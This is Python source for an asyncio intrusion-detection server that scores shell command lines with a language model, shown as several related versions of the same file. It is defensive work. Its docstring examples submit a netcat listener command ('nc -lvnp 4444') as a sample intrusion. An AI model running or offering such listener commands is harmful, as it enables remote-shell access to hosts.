        pool explicitly.  Returns whether the pool actually changed;
        raises :class:`~repro.errors.ConfigError` for a backend that
        cannot resize (inline has exactly one lane).
        """
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if not self._ctx.backend.can_resize:
            raise ConfigError(
                f"backend {self._ctx.backend.describe()} cannot resize; "
                "serve with backend.kind 'threaded' or 'process'"
            )
        return await self._apply_workers(workers)

    # -- autoscaling internals -----------------------------------------------

    def _observe(self) -> AutoscaleObservation:
        """One sample of the serving plane for the autoscaler."""
        backlog = sum(runtime.pending for runtime in self.shards)
        latency = max(runtime.metrics.batch_score_ewma_ms for runtime in self.shards)
        gen_hits = sum(runtime.cache.generation_hits for runtime in self.shards)
        gen_misses = sum(runtime.cache.generation_misses for runtime in self.shards)
        scored = gen_hits + gen_misses
        return AutoscaleObservation(
            workers=self._ctx.backend.workers,
            backlog=backlog,
            batch_latency_ms=latency,
            hit_rate=gen_hits / scored if scored else 0.0,
            batches=sum(runtime.metrics.batches for runtime in self.shards),
        )

    async def _apply_workers(self, target: int) -> bool:
        """Quiesce scoring fleet-wide and resize the backend pool."""
        async with contextlib.AsyncExitStack() as stack:
            for runtime in self.shards:
                await stack.enter_async_context(runtime.score_lock)
            changed = await self._ctx.backend.resize(target)
            if changed:
                # any freshly spawned worker hydrates + warms before the
                # quiesce lifts, so scale-up never serves a cold lane
                await self._ctx.backend.warm_up()
        if changed:
            described = self._ctx.backend.describe()
            self._control_metrics.backend = described
            for runtime in self.shards:
                runtime.metrics.backend = described
        return changed


def serve_stream(
    service: IntrusionDetectionService,
    events: Iterable[CommandEvent | str],
    *,
    concurrency: int = 8,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Drive a server over *events* with in-process async producers.

    The synchronous entry point used by ``repro-ids serve`` and the
    benchmarks: materialises *events*, fans them across *concurrency*
    producer tasks (so the micro-batchers actually see concurrent
    traffic), and returns per-event results in input order plus the
    stopped server for metrics/sink inspection.

    ``server_options`` may be an existing ``server=`` (reused as-is,
    e.g. to measure a warm cache — no other options are allowed then),
    or keyword options for a new :class:`DetectionServer`.
    """
    if concurrency < 1:
        raise ValueError("concurrency must be >= 1")
    materialized = [
        event if isinstance(event, CommandEvent) else CommandEvent(line=event)
        for event in events
    ]
    server = _resolve_server(service, server_options)

    async def _run() -> list[DetectionResult]:
        results: list[DetectionResult | None] = [None] * len(materialized)
        pending: asyncio.Queue[tuple[int, CommandEvent]] = asyncio.Queue()
        for position, event in enumerate(materialized):
            pending.put_nowait((position, event))

        async def producer() -> None:
            while True:
                try:
                    position, event = pending.get_nowait()
                except asyncio.QueueEmpty:
                    return
                results[position] = await server.submit_event(event)

        async with server:
            await asyncio.gather(*(producer() for _ in range(concurrency)))
        return [result for result in results if result is not None]

    return asyncio.run(_run()), server


def serve_batches(
    service: IntrusionDetectionService,
    events: Iterable[CommandEvent | str],
    *,
    batch_size: int = 1024,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Drive a server over *events* through the batch-first path.

    The bulk twin of :func:`serve_stream` for replay/backfill workloads
    where the events are already collected: instead of fanning
    single-event producers into per-shard micro-batchers, slices of
    *batch_size* events go straight to
    :meth:`DetectionServer.submit_many`, which runs each shard's slice
    through its columnar pipeline in one pass.  Returns per-event
    results in input order plus the stopped server.

    ``server_options`` follows :func:`serve_stream`: an existing
    ``server=`` (alone), or keyword options for a new
    :class:`DetectionServer`.
    """
    if batch_size < 1:
        raise ValueError("batch_size must be >= 1")
    materialized = [
        event if isinstance(event, CommandEvent) else CommandEvent(line=event)
        for event in events
    ]
    server = _resolve_server(service, server_options)

    async def _run() -> list[DetectionResult]:
        results: list[DetectionResult] = []
        async with server:
            for start in range(0, len(materialized), batch_size):
                results.extend(
                    await server.submit_many(materialized[start : start + batch_size])
                )
        return results

    return asyncio.run(_run()), server


def tail_stream(
    service: IntrusionDetectionService,
    stream: TextIO,
    *,
    concurrency: int = 8,
    limit: int | None = None,
    parse: Callable[[str], CommandEvent | None] | None = None,
    on_result: Callable[[DetectionResult], None] | None = None,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Follow *stream* live, submitting each event as it arrives.

    Unlike :func:`serve_stream`, the input is **not** read to EOF first:
    a reader thread feeds a bounded queue as lines appear on the (possibly
    unbounded) pipe, and *concurrency* producer tasks submit them to the
    server immediately — the ``repro-ids serve --input -`` live-tail
    mode the ROADMAP called for.  Returns when the stream ends (EOF or
    *limit* events), with results in arrival order.

    *parse* maps one raw text line to a :class:`CommandEvent` (``None``
    skips the line; default: the whole line is the command).  *on_result*
    is invoked from the event loop after each event completes — useful
    for progress output while the stream is still open.
    """
    if concurrency < 1:
        raise ValueError("concurrency must be >= 1")
    if limit is not None and limit <= 0:
        limit = 0
    parse = parse or _parse_plain_line
    server = _resolve_server(service, server_options)

    async def _run() -> list[DetectionResult]:
        loop = asyncio.get_running_loop()
        queue: asyncio.Queue = asyncio.Queue(maxsize=max(2 * concurrency, 8))
        eof = object()
        sequenced: list[tuple[int, DetectionResult]] = []
        reader_failure: list[BaseException] = []

        def reader() -> None:
            count = 0
            try:
                if limit == 0:
                    return
                for raw in stream:
                    event = parse(raw)
                    if event is None:
                        continue
                    # blocks (backpressure) when producers lag behind
                    asyncio.run_coroutine_threadsafe(queue.put((count, event)), loop).result()
                    count += 1
                    if limit is not None and count >= limit:
                        return
            except BaseException as exc:  # re-raised on the caller's side
                reader_failure.append(exc)
            finally:
                try:
                    asyncio.run_coroutine_threadsafe(queue.put(eof), loop).result()
                except RuntimeError:
                    pass  # loop already closed (producer failure path)

        async def producer() -> None:
            while True:
                item = await queue.get()
                if item is eof:
                    await queue.put(eof)  # wake sibling producers
                    return
                sequence, event = item
                result = await server.submit_event(event)
                sequenced.append((sequence, result))
                if on_result is not None:
                    on_result(result)

        thread = threading.Thread(target=reader, name="tail-reader", daemon=True)
        async with server:
            thread.start()
            await asyncio.gather(*(producer() for _ in range(concurrency)))
        thread.join(timeout=5.0)
        if reader_failure:
            # a broken input stream (decode error, raising parse) must
            # fail loudly, not masquerade as a clean partial run
            raise reader_failure[0]
        return [result for _, result in sorted(sequenced, key=lambda pair: pair[0])]

    return asyncio.run(_run()), server


def _parse_plain_line(text: str) -> CommandEvent | None:
    line = text.rstrip("\n")
    return CommandEvent(line=line) if line.strip() else None


def _resolve_server(
    service: IntrusionDetectionService, server_options: dict
) -> DetectionServer:
    """Shared ``server=`` / option handling for the stream drivers."""
    server = server_options.pop("server", None)
    if server is not None and server_options:
        raise ValueError(
            "server= reuses an existing DetectionServer; these options would be "
            f"silently ignored: {sorted(server_options)}"
        )
    if server is None:
        server = DetectionServer(service, **server_options)
    return server
