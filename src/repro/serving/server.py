"""The asyncio streaming detection server (the always-on path of Figure 1).

Per event, the flow is::

    submit(line, host) ──► preprocess (normalize + parse-validate)
                              │ dropped? ──► DetectionResult(dropped=True)
                              ▼
                           ScoreCache ── hit ──► score
                              │ miss
                              ▼
                           MicroBatcher ──► ScoringBackend.score(batch)
                              ▼
                           threshold ── intrusion? ──► DetectionAlert
                                                         │
                                    SessionAggregator + DeliveryPipeline

Many producers may ``await submit(...)`` concurrently; the micro-batcher
coalesces their misses so the LM encoder always runs near its efficient
batch width, and within-batch duplicates are scored once.  Where the
forward pass runs is the :class:`~repro.serving.backends.ScoringBackend`'s
choice — inline on the loop, sharded across threads, or sharded across
worker processes.  :meth:`DetectionServer.swap_model` rotates the whole
stack onto a new model bundle without dropping an event (the paper's
weekly continual-learning hand-off).  Everything is in-process and
unit-testable without sockets.
"""

from __future__ import annotations

import asyncio
import threading
import time
import warnings
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import TextIO

from repro.errors import ConfigError
from repro.ids.pipeline import IntrusionDetectionService
from repro.serving.backends import (
    InlineBackend,
    ProcessPoolBackend,
    ScoringBackend,
    ServiceLoader,
    ThreadedBackend,
    load_bundle,
)
from repro.serving.cache import ScoreCache
from repro.serving.config import BackendConfig, ServingConfig, SessionConfig
from repro.serving.delivery import DeliveryPipeline
from repro.serving.events import (
    AlertStatus,
    CommandEvent,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import MicroBatcher
from repro.serving.sessions import SessionAggregator
from repro.serving.sinks import DEFAULT_SINK_REGISTRY, AlertSink, SinkRegistry


@dataclass(frozen=True)
class SwapReport:
    """What one :meth:`DetectionServer.swap_model` call did.

    Attributes
    ----------
    generation:
        The server's model generation *after* the swap.
    bundle_dir:
        Bundle directory the new model came from (``None`` when the
        caller handed over a service/loader directly).
    swap_ms:
        End-to-end wall time of the swap, including loading the new
        bundle and draining the in-flight batch.
    drain_ms:
        Portion spent waiting for the in-flight batch to finish — the
        window during which new batches were held back.
    cache_invalidated:
        Entries purged from the score cache by the generation bump.
    """

    generation: int
    bundle_dir: str | None
    swap_ms: float
    drain_ms: float
    cache_invalidated: int


def backend_from_config(
    config: BackendConfig, service: IntrusionDetectionService
) -> ScoringBackend:
    """Build the :class:`ScoringBackend` a :class:`BackendConfig` describes.

    ``auto`` resolves to ``inline`` for one worker and ``process``
    otherwise.  The process pool needs an on-disk bundle for its
    workers to deserialize, so a service that was never saved
    (``service.source_dir is None``) cannot back a process backend —
    save it first (the CLI does this automatically for the demo
    service).
    """
    kind = config.resolved_kind
    if kind == "inline":
        return InlineBackend(service)
    if kind == "threaded":
        return ThreadedBackend(service, workers=config.workers)
    bundle_dir = getattr(service, "source_dir", None)
    if bundle_dir is None:
        raise ConfigError(
            "backend.kind 'process' needs a saved bundle directory to fork "
            "workers from, but the service has no source_dir; save the "
            "service (service.save(dir)) or serve it with backend.kind "
            "'inline'/'threaded'"
        )
    return ProcessPoolBackend(str(bundle_dir), workers=config.workers)


def _require_sequence_head(mode: str, service) -> None:
    """Fail fast when an escalation mode needs a head the service lacks."""
    if mode != "count" and not getattr(service, "has_sequence_head", False):
        raise ConfigError(
            f"session.mode {mode!r} needs a service with a multi-line head "
            "(a bundle saved with a 'multiline/' directory); attach one with "
            "IntrusionDetectionService.attach_multiline() or serve with "
            "session.mode 'count'"
        )


def _warn_on_composition_skew(session, service) -> None:
    """Surface train/serve composition drift for the sequence stage.

    The bundle records the composer the multi-line head was trained
    with; serving with a different window or gap silently reshapes the
    head's inputs, so say so up front.
    """
    if session.mode == "count":
        return
    meta = getattr(service, "multiline_composer_meta", None) or {}
    trained_window = meta.get("window")
    trained_gap = meta.get("max_gap_seconds")
    skewed = (trained_window is not None and trained_window != session.context_window) or (
        trained_gap is not None and trained_gap != session.context_max_gap_seconds
    )
    if skewed:
        warnings.warn(
            f"session composition (context_window={session.context_window}, "
            f"context_max_gap_seconds={session.context_max_gap_seconds}) differs "
            f"from the multi-line head's training composer (window="
            f"{trained_window}, max_gap_seconds={trained_gap}); the sequence "
            "stage will score windows shaped unlike its training data",
            stacklevel=3,
        )


class DetectionServer:
    """Streaming front-end over an :class:`IntrusionDetectionService`.

    :meth:`from_config` is the canonical constructor — one typed
    :class:`~repro.serving.config.ServingConfig` describes the whole
    deployment (batching, cache, backend, sessions, sinks + delivery
    policies).  The keyword arguments below remain as a thin
    compatibility layer over the same machinery.

    Parameters
    ----------
    service:
        A fitted detection service (only its ``preprocess``,
        ``score_normalized`` and ``threshold`` surface is used, so tests
        may substitute a lightweight stub).
    backend:
        Scoring execution strategy (default: score inline with
        *service*).  Pass a
        :class:`~repro.serving.backends.ThreadedBackend` or
        :class:`~repro.serving.backends.ProcessPoolBackend` to shard
        micro-batches across workers.
    max_batch / max_latency_ms:
        Micro-batch policy: flush on size or on the oldest event's
        queueing deadline, whichever first.
    cache_size / cache_ttl_seconds:
        LRU capacity of the normalized-line score cache (0 disables)
        and its optional time-to-live expiry.
    sinks:
        Alert sinks to fan confirmed detections out to: an iterable of
        :class:`AlertSink` (each delivered through the durable pipeline
        under the default :class:`~repro.serving.config.DeliveryPolicy`)
        or a pre-assembled
        :class:`~repro.serving.delivery.DeliveryPipeline`.
    session:
        Full per-host escalation policy as a
        :class:`~repro.serving.config.SessionConfig` — including the
        escalation ``mode``; the sequence modes run each flagged event's
        composed per-host command window through the service's
        multi-line head (second stage, flagged events only).
    session_window_seconds / escalation_threshold:
        Compatibility shorthand for the two count-policy fields of
        *session* (ignored when *session* is given).
    metrics:
        Optional externally-owned :class:`ServingMetrics` bundle.

    Example
    -------
    >>> async with DetectionServer(service) as server:      # doctest: +SKIP
    ...     result = await server.submit("nc -lvnp 4444", host="web-3")
    ...     result.is_intrusion
    True
    """

    def __init__(
        self,
        service: IntrusionDetectionService,
        *,
        backend: ScoringBackend | None = None,
        max_batch: int = 32,
        max_latency_ms: float = 25.0,
        cache_size: int = 4096,
        cache_ttl_seconds: float | None = None,
        sinks: Iterable[AlertSink] | DeliveryPipeline = (),
        session: SessionConfig | None = None,
        session_window_seconds: float = 300.0,
        escalation_threshold: int = 5,
        metrics: ServingMetrics | None = None,
    ):
        self.service = service
        self.backend = backend or InlineBackend(service)
        self.cache = ScoreCache(cache_size, ttl_seconds=cache_ttl_seconds)
        self.metrics = metrics or ServingMetrics()
        self.metrics.backend = self.backend.describe()
        #: The declarative config this server was assembled from
        #: (set by :meth:`from_config`; ``None`` for kwargs construction).
        self.config: ServingConfig | None = None
        if session is None:
            session = SessionConfig(
                window_seconds=session_window_seconds,
                escalation_threshold=escalation_threshold,
            )
        _require_sequence_head(session.mode, service)
        _warn_on_composition_skew(session, service)
        #: The resolved per-host escalation policy.
        self.session_policy = session
        self.sessions = SessionAggregator(
            window_seconds=session.window_seconds,
            escalation_threshold=session.escalation_threshold,
            mode=session.mode,
            sequence_threshold=session.sequence_threshold,
            context_window=session.context_window,
            context_max_gap_seconds=session.context_max_gap_seconds,
            max_hosts=session.max_hosts,
        )
        if isinstance(sinks, DeliveryPipeline):
            self.sinks = sinks
        else:
            self.sinks = DeliveryPipeline(sinks)
        self.batcher = MicroBatcher(
            self._score_batch,
            max_batch=max_batch,
            max_latency_ms=max_latency_ms,
            on_flush=self.metrics.record_batch,
        )
        self.generation = 0
        self._event_seq = 0
        self._alert_seq = 0
        self._score_lock: asyncio.Lock | None = None
        self._swap_lock: asyncio.Lock | None = None

    # -- declarative construction ------------------------------------------

    @classmethod
    def from_config(
        cls,
        bundle: str | Path | IntrusionDetectionService,
        config: ServingConfig | None = None,
        *,
        metrics: ServingMetrics | None = None,
        registry: SinkRegistry | None = None,
        record: bool = True,
    ) -> "DetectionServer":
        """Assemble a server from a bundle and a declarative config.

        This is the canonical constructor behind ``repro-ids serve
        --config serve.toml``.  *bundle* is a
        :meth:`IntrusionDetectionService.save` directory (or an
        already-constructed service).  *config* resolution order:

        1. the *config* argument,
        2. the config recorded in the bundle's metadata (a bundle
           remembers how it was last served),
        3. ``ServingConfig()`` defaults.

        Sinks are built from the config's URI specs via *registry*
        (default: the process-wide registry) and wrapped in a
        :class:`~repro.serving.delivery.DeliveryPipeline` honouring each
        spec's delivery policy.  When *record* is true and the service
        came from a bundle directory, the resolved config is written
        back into the bundle metadata (best-effort), so the next
        ``from_config(bundle)`` without an explicit config reproduces
        this deployment.
        """
        if isinstance(bundle, (str, Path)):
            service = IntrusionDetectionService.load(bundle)
        else:
            service = bundle  # an already-constructed service (or test stub)
        if config is None:
            config = getattr(service, "serving_config", None) or ServingConfig()
        backend = backend_from_config(config.backend, service)
        pipeline = DeliveryPipeline()
        registry = registry or DEFAULT_SINK_REGISTRY
        for spec in config.sinks:
            pipeline.add(registry.build(spec.uri), policy=spec.policy, name=spec.name)
        server = cls(
            service,
            backend=backend,
            max_batch=config.batch.max_batch,
            max_latency_ms=config.batch.max_latency_ms,
            cache_size=config.cache.size,
            cache_ttl_seconds=config.cache.ttl_seconds,
            sinks=pipeline,
            session=config.session,
            metrics=metrics,
        )
        server.config = config
        if record:
            recorder = getattr(service, "record_serving_config", None)
            if callable(recorder):
                recorder(config)
        return server

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        """Start the scoring backend, the micro-batch consumer, and the clock."""
        # locks bind to the running loop; (re)create them here so a
        # stopped server can restart on a new loop
        self._score_lock = asyncio.Lock()
        self._swap_lock = asyncio.Lock()
        self.metrics.mark_start()
        self.sinks.start()
        await self.backend.start()
        await self.batcher.start()

    async def stop(self) -> None:
        """Drain the batcher, stop the backend, close sinks, freeze the clock.

        Closing the delivery pipeline blocks until every queued alert is
        delivered, retried out, or dead-lettered — run it off-loop so
        sink backoff never stalls the event loop.
        """
        await self.batcher.stop()
        await self.backend.stop()
        await asyncio.to_thread(self.sinks.close)
        self.metrics.mark_stop()

    async def __aenter__(self) -> "DetectionServer":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- event path --------------------------------------------------------

    async def submit(
        self, line: str, host: str = "-", timestamp: float | None = None
    ) -> DetectionResult:
        """Score one raw command line from *host*; full serving path."""
        started = time.perf_counter()
        self._event_seq += 1
        event_id = self._event_seq
        when = time.time() if timestamp is None else float(timestamp)

        normalized = self.service.preprocess(line)
        if normalized is None:
            latency = (time.perf_counter() - started) * 1000.0
            self.metrics.record_event(latency, dropped=True, cache_hit=False)
            return DetectionResult(
                event_id=event_id,
                host=host,
                raw_line=line,
                line="",
                score=0.0,
                is_intrusion=False,
                dropped=True,
                cache_hit=False,
                latency_ms=latency,
                generation=self.generation,
            )

        cached = self.cache.lookup(normalized)
        if cached is not None:
            (score, generation), cache_hit = cached, True
        else:
            score, generation = await self.batcher.submit(normalized)
            cache_hit = False

        is_intrusion = score >= self.service.threshold
        session, newly_escalated = self.sessions.observe(
            host, when, is_intrusion, line=normalized
        )
        if newly_escalated:
            self.metrics.escalations += 1
        self.metrics.session_evictions = self.sessions.evictions
        context = None
        sequence_score = None
        if is_intrusion and self.sessions.mode != "count":
            # second stage, flagged events only: compose the host's
            # recent command window (before awaiting, so the window is
            # this event's) and score it with the multi-line head
            # off-loop — the forward pass must not stall the batcher's
            # deadline timer or concurrent submissions
            context = self.sessions.compose_context(host)
            if context is not None:
                scores = await asyncio.to_thread(self.service.score_sequence, [context])
                sequence_score = float(scores[0])
                self.metrics.sequence_scored += 1
                if self.sessions.record_sequence_score(host, sequence_score):
                    self.metrics.escalations += 1
                    self.metrics.sequence_escalations += 1
        alert = None
        if is_intrusion:
            alert = self._emit_alert(
                event_id,
                host,
                normalized,
                score,
                when,
                session.escalated,
                context=context,
                sequence_score=sequence_score,
            )

        latency = (time.perf_counter() - started) * 1000.0
        self.metrics.record_event(latency, dropped=False, cache_hit=cache_hit)
        return DetectionResult(
            event_id=event_id,
            host=host,
            raw_line=line,
            line=normalized,
            score=score,
            is_intrusion=is_intrusion,
            dropped=False,
            cache_hit=cache_hit,
            latency_ms=latency,
            alert=alert,
            generation=generation,
            sequence_score=sequence_score,
        )

    async def submit_event(self, event: CommandEvent) -> DetectionResult:
        """Submit a :class:`CommandEvent` (record-style convenience)."""
        return await self.submit(event.line, host=event.host, timestamp=event.timestamp)

    # -- hot model swap ----------------------------------------------------

    async def swap_model(
        self,
        bundle_dir: str | None = None,
        *,
        service: IntrusionDetectionService | None = None,
        loader: ServiceLoader | None = None,
    ) -> SwapReport:
        """Atomically rotate the server onto a new model bundle.

        The sequence is: load the new bundle (off-loop, while old-model
        scoring continues), wait for the in-flight batch to drain while
        holding back new ones, rotate the scoring backend, bump the
        model generation, and purge the score cache.  Events submitted
        during the swap are never dropped — they queue in the
        micro-batcher and score against the new model; a batch never
        mixes generations because rotation happens under the same lock
        every batch scores under.

        Callers pass one of:

        - *bundle_dir* — a :meth:`IntrusionDetectionService.save`
          directory (the normal production path, e.g. from
          :meth:`ContinualLearner.export_service`);
        - *service* (plus *loader* when the backend runs worker
          processes) — pre-constructed objects, used by tests.

        Note the calibrated threshold swaps together with the model:
        an event scored by the old model but thresholded after the swap
        uses the new threshold (the race window is one batch wide).
        """
        if bundle_dir is None and service is None and loader is None:
            raise ValueError("swap_model needs a bundle_dir, a service, or a loader")
        if loader is None and bundle_dir is not None:
            loader = partial(load_bundle, str(bundle_dir))
        if self._swap_lock is None or self._score_lock is None:
            raise RuntimeError("DetectionServer is not running; call start() first")
        async with self._swap_lock:
            started = time.perf_counter()
            if service is None:
                # deserialize off-loop: scoring with the old model continues
                service = await asyncio.to_thread(loader)
            # a sequence-mode server must never rotate onto a bundle that
            # lost its second stage — fail before touching the backend
            _require_sequence_head(self.sessions.mode, service)
            drain_started = time.perf_counter()
            async with self._score_lock:
                drain_ms = (time.perf_counter() - drain_started) * 1000.0
                await self.backend.swap(service=service, loader=loader)
                self.service = service
                self.generation += 1
                invalidated = self.cache.bump_generation()
            swap_ms = (time.perf_counter() - started) * 1000.0
            self.metrics.record_swap(swap_ms)
            return SwapReport(
                generation=self.generation,
                bundle_dir=None if bundle_dir is None else str(bundle_dir),
                swap_ms=swap_ms,
                drain_ms=drain_ms,
                cache_invalidated=invalidated,
            )

    # -- internals ---------------------------------------------------------

    def _emit_alert(
        self,
        event_id: int,
        host: str,
        line: str,
        score: float,
        when: float,
        escalated: bool,
        *,
        context: str | None = None,
        sequence_score: float | None = None,
    ) -> DetectionAlert:
        self._alert_seq += 1
        alert = DetectionAlert(
            alert_id=self._alert_seq,
            event_id=event_id,
            host=host,
            line=line,
            score=score,
            severity=Severity.from_score(score, self.service.threshold),
            status=AlertStatus.ESCALATED if escalated else AlertStatus.OPEN,
            timestamp=when,
            context=context,
            sequence_score=sequence_score,
        )
        self.sinks.emit(alert)
        self.metrics.alerts += 1
        return alert

    async def _score_batch(self, lines: list[str]) -> list[tuple[float, int]]:
        """Micro-batch handler: score distinct lines once, fill the cache.

        Returns ``(score, generation)`` pairs so producers can stamp
        their results with the model that actually scored them.  The
        score lock serializes batches against :meth:`swap_model`, which
        is what guarantees a batch never mixes model generations.
        """
        unique: dict[str, tuple[float, int]] = dict.fromkeys(lines, (0.0, 0))
        if self._score_lock is None:
            raise RuntimeError("DetectionServer is not running; call start() first")
        async with self._score_lock:
            generation = self.generation
            try:
                scores = await self.backend.score(list(unique))
            except Exception:
                self.metrics.scoring_errors += 1
                raise
        for line, score in zip(unique, scores):
            value = float(score)
            unique[line] = (value, generation)
            self.cache.put(line, value, generation=generation)
        self.metrics.unique_scored += len(unique)
        return [unique[line] for line in lines]


def serve_stream(
    service: IntrusionDetectionService,
    events: Iterable[CommandEvent | str],
    *,
    concurrency: int = 8,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Drive a server over *events* with in-process async producers.

    The synchronous entry point used by ``repro-ids serve`` and the
    benchmarks: materialises *events*, fans them across *concurrency*
    producer tasks (so the micro-batcher actually sees concurrent
    traffic), and returns per-event results in input order plus the
    stopped server for metrics/sink inspection.

    ``server_options`` may be an existing ``server=`` (reused as-is,
    e.g. to measure a warm cache — no other options are allowed then),
    or keyword options for a new :class:`DetectionServer`.
    """
    if concurrency < 1:
        raise ValueError("concurrency must be >= 1")
    materialized = [
        event if isinstance(event, CommandEvent) else CommandEvent(line=event)
        for event in events
    ]
    server = _resolve_server(service, server_options)

    async def _run() -> list[DetectionResult]:
        results: list[DetectionResult | None] = [None] * len(materialized)
        pending: asyncio.Queue[tuple[int, CommandEvent]] = asyncio.Queue()
        for position, event in enumerate(materialized):
            pending.put_nowait((position, event))

        async def producer() -> None:
            while True:
                try:
                    position, event = pending.get_nowait()
                except asyncio.QueueEmpty:
                    return
                results[position] = await server.submit_event(event)

        async with server:
            await asyncio.gather(*(producer() for _ in range(concurrency)))
        return [result for result in results if result is not None]

    return asyncio.run(_run()), server


def tail_stream(
    service: IntrusionDetectionService,
    stream: TextIO,
    *,
    concurrency: int = 8,
    limit: int | None = None,
    parse: Callable[[str], CommandEvent | None] | None = None,
    on_result: Callable[[DetectionResult], None] | None = None,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Follow *stream* live, submitting each event as it arrives.

    Unlike :func:`serve_stream`, the input is **not** read to EOF first:
    a reader thread feeds a bounded queue as lines appear on the (possibly
    unbounded) pipe, and *concurrency* producer tasks submit them to the
    server immediately — the ``repro-ids serve --input -`` live-tail
    mode the ROADMAP called for.  Returns when the stream ends (EOF or
    *limit* events), with results in arrival order.

    *parse* maps one raw text line to a :class:`CommandEvent` (``None``
    skips the line; default: the whole line is the command).  *on_result*
    is invoked from the event loop after each event completes — useful
    for progress output while the stream is still open.
    """
    if concurrency < 1:
        raise ValueError("concurrency must be >= 1")
    if limit is not None and limit <= 0:
        limit = 0
    parse = parse or _parse_plain_line
    server = _resolve_server(service, server_options)

    async def _run() -> list[DetectionResult]:
        loop = asyncio.get_running_loop()
        queue: asyncio.Queue = asyncio.Queue(maxsize=max(2 * concurrency, 8))
        eof = object()
        sequenced: list[tuple[int, DetectionResult]] = []
        reader_failure: list[BaseException] = []

        def reader() -> None:
            count = 0
            try:
                if limit == 0:
                    return
                for raw in stream:
                    event = parse(raw)
                    if event is None:
                        continue
                    # blocks (backpressure) when producers lag behind
                    asyncio.run_coroutine_threadsafe(queue.put((count, event)), loop).result()
                    count += 1
                    if limit is not None and count >= limit:
                        return
            except BaseException as exc:  # re-raised on the caller's side
                reader_failure.append(exc)
            finally:
                try:
                    asyncio.run_coroutine_threadsafe(queue.put(eof), loop).result()
                except RuntimeError:
                    pass  # loop already closed (producer failure path)

        async def producer() -> None:
            while True:
                item = await queue.get()
                if item is eof:
                    await queue.put(eof)  # wake sibling producers
                    return
                sequence, event = item
                result = await server.submit_event(event)
                sequenced.append((sequence, result))
                if on_result is not None:
                    on_result(result)

        thread = threading.Thread(target=reader, name="tail-reader", daemon=True)
        async with server:
            thread.start()
            await asyncio.gather(*(producer() for _ in range(concurrency)))
        thread.join(timeout=5.0)
        if reader_failure:
            # a broken input stream (decode error, raising parse) must
            # fail loudly, not masquerade as a clean partial run
            raise reader_failure[0]
        return [result for _, result in sorted(sequenced, key=lambda pair: pair[0])]

    return asyncio.run(_run()), server


def _parse_plain_line(text: str) -> CommandEvent | None:
    line = text.rstrip("\n")
    return CommandEvent(line=line) if line.strip() else None


def _resolve_server(
    service: IntrusionDetectionService, server_options: dict
) -> DetectionServer:
    """Shared ``server=`` / option handling for the stream drivers."""
    server = server_options.pop("server", None)
    if server is not None and server_options:
        raise ValueError(
            "server= reuses an existing DetectionServer; these options would be "
            f"silently ignored: {sorted(server_options)}"
        )
    if server is None:
        server = DetectionServer(service, **server_options)
    return server
