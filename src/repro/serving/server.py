"""The asyncio streaming detection server (the always-on path of Figure 1).

Per event, the flow is::

    submit(line, host) ──► preprocess (normalize + parse-validate)
                              │ dropped? ──► DetectionResult(dropped=True)
                              ▼
                           ScoreCache ── hit ──► score
                              │ miss
                              ▼
                           MicroBatcher ──► service.score_normalized(batch)
                              ▼
                           threshold ── intrusion? ──► DetectionAlert
                                                         │
                                         SessionAggregator + SinkFanout

Many producers may ``await submit(...)`` concurrently; the micro-batcher
coalesces their misses so the LM encoder always runs near its efficient
batch width, and within-batch duplicates are scored once.  Everything is
in-process and unit-testable without sockets.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Iterable

from repro.ids.pipeline import IntrusionDetectionService
from repro.serving.cache import ScoreCache
from repro.serving.events import (
    AlertStatus,
    CommandEvent,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import MicroBatcher
from repro.serving.sessions import SessionAggregator
from repro.serving.sinks import AlertSink, SinkFanout


class DetectionServer:
    """Streaming front-end over an :class:`IntrusionDetectionService`.

    Parameters
    ----------
    service:
        A fitted detection service (only its ``preprocess``,
        ``score_normalized`` and ``threshold`` surface is used, so tests
        may substitute a lightweight stub).
    max_batch / max_latency_ms:
        Micro-batch policy: flush on size or on the oldest event's
        queueing deadline, whichever first.
    cache_size:
        LRU capacity of the normalized-line score cache (0 disables).
    sinks:
        Alert sinks to fan confirmed detections out to.
    session_window_seconds / escalation_threshold:
        Per-host rolling-window escalation policy.
    metrics:
        Optional externally-owned :class:`ServingMetrics` bundle.

    Example
    -------
    >>> async with DetectionServer(service) as server:      # doctest: +SKIP
    ...     result = await server.submit("nc -lvnp 4444", host="web-3")
    ...     result.is_intrusion
    True
    """

    def __init__(
        self,
        service: IntrusionDetectionService,
        *,
        max_batch: int = 32,
        max_latency_ms: float = 25.0,
        cache_size: int = 4096,
        sinks: Iterable[AlertSink] = (),
        session_window_seconds: float = 300.0,
        escalation_threshold: int = 5,
        metrics: ServingMetrics | None = None,
    ):
        self.service = service
        self.cache = ScoreCache(cache_size)
        self.metrics = metrics or ServingMetrics()
        self.sessions = SessionAggregator(
            window_seconds=session_window_seconds,
            escalation_threshold=escalation_threshold,
        )
        self.sinks = SinkFanout(list(sinks))
        self.batcher = MicroBatcher(
            self._score_batch,
            max_batch=max_batch,
            max_latency_ms=max_latency_ms,
            on_flush=self.metrics.record_batch,
        )
        self._event_seq = 0
        self._alert_seq = 0

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        """Start the micro-batch consumer and the throughput clock."""
        self.metrics.mark_start()
        await self.batcher.start()

    async def stop(self) -> None:
        """Drain the batcher, close sinks, freeze the clock."""
        await self.batcher.stop()
        self.sinks.close()
        self.metrics.mark_stop()

    async def __aenter__(self) -> "DetectionServer":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- event path --------------------------------------------------------

    async def submit(
        self, line: str, host: str = "-", timestamp: float | None = None
    ) -> DetectionResult:
        """Score one raw command line from *host*; full serving path."""
        started = time.perf_counter()
        self._event_seq += 1
        event_id = self._event_seq
        when = time.time() if timestamp is None else float(timestamp)

        normalized = self.service.preprocess(line)
        if normalized is None:
            latency = (time.perf_counter() - started) * 1000.0
